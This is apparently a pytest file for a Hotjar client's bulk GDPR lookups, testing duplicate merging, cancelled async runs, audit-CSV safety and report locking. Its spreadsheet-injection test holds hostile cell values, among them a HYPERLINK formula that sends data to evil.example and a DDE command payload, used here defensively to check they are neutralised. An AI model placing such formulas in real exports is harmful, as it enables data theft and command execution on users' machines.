"""Bulk GDPR runs that cannot hurt anyone: a subject given twice is sent once, a cancelled
async run keeps its record, the audit CSV opens as text in a spreadsheet and reads back
exactly, and two runs cannot continue one report at once."""

from __future__ import annotations

import asyncio
import csv
import io
import os
import subprocess
import sys
import textwrap
import time

import hotjar_client as hj
import pytest
from hotjar_client.gdpr import COLUMNS, LookupReport, lock_report
from hotjar_client.testing import FakeHotjar
from test_cli import env, no_env, run  # noqa: F401 (the CLI's fixtures)

LOOKUP = "/v1/organizations/{}/user-lookup"


def sent_emails(fake) -> list[str]:
    return [record["email"] for record in fake.lookups(reveal=True)]


# --- one request per person ----------------------------------------------------------------------


def test_a_subject_given_twice_is_sent_once_and_every_row_gets_its_result(fake, client):
    jane, other = (s["email"] for s in fake.subjects(limit=2))
    local, domain = jane.split("@")
    site = fake.site_id
    subjects = [
        jane,
        f"  {local}@{domain.upper()} ",  # same person: spaces and the domain's case
        {"email": jane, "user_ids": None},
        f"{local.upper()}@{domain}",  # the part before the @ may be case-sensitive: not merged
        {"user_ids": {int(site): "cust-1"}},
        {"user_ids": {site: " cust-1 "}},  # same user id on the same site
        other,
    ]
    report = client.lookup_many(subjects)

    assert report.all_ok
    assert sorted(sent_emails(fake), key=str) == sorted(
        [jane, f"{local.upper()}@{domain}", None, other], key=str
    )
    log = [r for r in fake.request_log() if r["path"] == LOOKUP.format(fake.organization_id)]
    assert len(log) == 4
    assert [row["duplicate_of"] for row in report] == [None, 0, 0, None, None, 4, None]
    # A merged row carries the result of the request it shares.
    for row in report:
        if row["duplicate_of"] is not None:
            sent = report[row["duplicate_of"]]
            assert (row["status"], row["http_status"], row["at"]) == (
                sent["status"],
                sent["http_status"],
                sent["at"],
            )
    # The subject as given stays with each row, for the audit record.
    assert report[1].subject["email"] == f"{local}@{domain.upper()}"


def test_a_duplicated_deletion_is_confirmed_and_sent_once(fake, client):
    jane = fake.subjects(limit=1)[0]["email"]
    with pytest.raises(hj.ConfirmationRequiredError) as refused:
        client.lookup_many([jane, f" {jane} "], delete=True)
    assert "1 data subject " in str(refused.value)
    report = client.lookup_many([jane, jane], delete=True, confirm=True)
    assert report.all_ok and [r["duplicate_of"] for r in report] == [None, 0]
    assert sent_emails(fake) == [jane]


def test_a_failed_request_fails_every_row_that_shares_it(fake, client):
    jane = fake.subjects(limit=1)[0]["email"]
    fake.fail_next(status=500)
    report = client.lookup_many([jane, jane])
    assert [r["status"] for r in report] == ["failed", "failed"]
    assert report[1]["error_type"] == "ServerError" and report[1]["duplicate_of"] == 0
    # Re-running the report sends the person once more, not twice.
    again = client.lookup_many(report)
    assert again.all_ok and sent_emails(fake) == [jane]


def test_duplicate_of_survives_the_csv_and_old_reports_still_read(fake, client, tmp_path):
    jane = fake.subjects(limit=1)[0]["email"]
    report = client.lookup_many([jane, jane])
    back = LookupReport.from_csv(report.to_csv(tmp_path / "r.csv"))
    assert [dict(r) for r in back] == [dict(r) for r in report]
    # A report written before the column existed.
    old = tmp_path / "old.csv"
    header = ",".join(c for c in COLUMNS if c != "duplicate_of")
    old.write_text(
        header + f"\n0,{jane},,lookup,{fake.organization_id},failed,,ServerError,x,t\n",
        encoding="utf-8",
    )
    (row,) = LookupReport.from_csv(old)
    assert row["duplicate_of"] is None and row.subject["email"] == jane


# --- cancelling an async run ---------------------------------------------------------------------


def test_a_cancelled_async_run_carries_the_report_of_exactly_what_was_sent():
    """Concurrency 1, and the 4th request hangs at the server: the task is cancelled while it
    is under way. The report says ok for exactly the subjects the fake recorded, "under way"
    for the one in flight, and "not sent" for the rest, which the fake never saw."""
    with FakeHotjar() as fake:
        emails = [s["email"] for s in fake.subjects(limit=12)]
        fake.inject_fault("slow", after=3, delay=3.0)

        async def main() -> BaseException:
            async with fake.async_client(requests_per_minute=None) as aclient:
                await aclient.test_connection()
                task = asyncio.create_task(aclient.lookup_many(emails, concurrency=1))
                for _ in range(2000):  # up to 20 s
                    if len(fake.lookups()) >= 3:
                        break
                    await asyncio.sleep(0.01)
                await asyncio.sleep(0.2)  # the 4th request is now at the server
                task.cancel()
                try:
                    await task
                except asyncio.CancelledError as cancelled:
                    return cancelled
                raise AssertionError("the task was not cancelled")

        cancelled = asyncio.run(main())
        report = cancelled.report
        assert isinstance(report, LookupReport) and len(report) == len(emails)
        ok = [row.subject["email"] for row in report.ok]
        under_way = [r.subject["email"] for r in report if "under way" in (r["error"] or "")]
        not_sent = [r.subject["email"] for r in report if (r["error"] or "").startswith("Not sent")]
        assert ok == emails[:3]
        assert under_way == emails[3:4]
        assert not_sent == emails[4:]
        assert {r["error_type"] for r in report.failed} == {"CancelledError"}
        time.sleep(3.5)  # the hung request's time at the server is over
        received = sent_emails(fake)
        assert set(ok) <= set(received) <= set(ok) | set(under_way)
        assert not set(received) & set(not_sent)
        # Re-running the report sends only the failed rows.
        with fake.client() as client:
            rest = client.lookup_many(report.failed)
        assert rest.all_ok


def test_wait_for_timing_out_also_carries_the_report():
    with FakeHotjar(latency=0.2) as fake:
        emails = [s["email"] for s in fake.subjects(limit=30)]

        async def main() -> BaseException:
            async with fake.async_client(requests_per_minute=None) as aclient:
                try:
                    await asyncio.wait_for(aclient.lookup_many(emails, concurrency=2), 0.5)
                except (asyncio.CancelledError, TimeoutError) as stopped:
                    return stopped
                raise AssertionError("no timeout")

        stopped = asyncio.run(main())
        # wait_for raises TimeoutError from the CancelledError that carries the report.
        cancelled = stopped if isinstance(stopped, asyncio.CancelledError) else stopped.__context__
        report = cancelled.report
        assert len(report) == 30 and 1 <= len(report.ok) < 30
        time.sleep(0.5)
        assert len(fake.lookups()) <= len(report.ok) + 2


# --- spreadsheet formulas in the audit CSV -------------------------------------------------------


FORMULAS = [
    "=1+2@example.com",
    "+1@example.com",
    "-2+3@example.com",
    "@SUM(A1)",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "\t=1",
    "\r=1",
    "'=already-quoted@example.com",
]


def test_formula_looking_cells_are_written_as_text_and_read_back_exactly(fake, client, tmp_path):
    report = client.lookup_many([*FORMULAS, {"user_ids": {fake.site_id: "=cmd|' /C calc'!A0"}}])
    path = report.to_csv(tmp_path / "audit.csv")
    data = path.read_bytes().decode("utf-8")
    cells = [cell for line in csv.reader(io.StringIO(data, newline="")) for cell in line]
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), repr(cell)
    for formula in FORMULAS:
        assert "'" + formula in cells or '"' + "'" + formula in data, formula
    assert "''=already-quoted@example.com" in cells
    back = LookupReport.from_csv(path)
    assert [r.subject for r in back] == [r.subject for r in report]
    assert [dict(r) for r in back] == [dict(r) for r in report]
    # Error messages are cells too: a server echoing a formula is guarded the same way.
    assert all(not (r["error"] or "").startswith("=") for r in back)


# --- two runs continuing one report --------------------------------------------------------------

HOLD_REPORT = textwrap.dedent(
    """
    import sys, time
    from hotjar_client.gdpr import lock_report
    with lock_report(sys.argv[1]):
        print("locked", flush=True)
        sys.stdin.readline()
    """
)


def test_a_second_run_on_a_locked_report_fails_at_once(tmp_path):
    path = tmp_path / "deletions.csv"
    holder = subprocess.Popen(
        [sys.executable, "-c", HOLD_REPORT, str(path)],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert holder.stdout.readline().strip() == "locked"
        started = time.monotonic()
        with pytest.raises(BlockingIOError) as busy, lock_report(path):
            pass
        assert time.monotonic() - started < 5
        assert isinstance(busy.value, hj.ExportFileError)
        assert "Another run continuing this report" in str(busy.value)
        assert busy.value.filename == str(path)
    finally:
        holder.communicate("\n", timeout=30)
    assert holder.returncode == 0
    # Released with its process: the lock can be taken again and leaves no file behind.
    with lock_report(path):
        pass
    assert os.listdir(tmp_path) == []


@pytest.mark.usefixtures("env")
def test_the_cli_fails_at_once_on_a_report_another_run_continues(fake, capsys, tmp_path):
    emails = [s["email"] for s in fake.subjects(limit=2)]
    fake.fail_next(status=503, count=2)
    with fake.client(max_retries=0) as failing:
        report = failing.lookup_many(emails)
    path = str(report.to_csv(tmp_path / "lookups.csv"))
    fake.clear_request_log()
    argv = ["lookup", "--from", path, "--report", path]
    with lock_report(path):
        code, _, err = run(capsys, *argv)
    assert code == 13, err
    assert "Another run continuing this report" in err
    assert fake.request_log() == []  # nothing was sent
    code, _, err = run(capsys, *argv)
    assert code == 0, err
    assert LookupReport.from_csv(path).all_ok
    assert sorted(os.listdir(tmp_path)) == ["lookups.csv"]
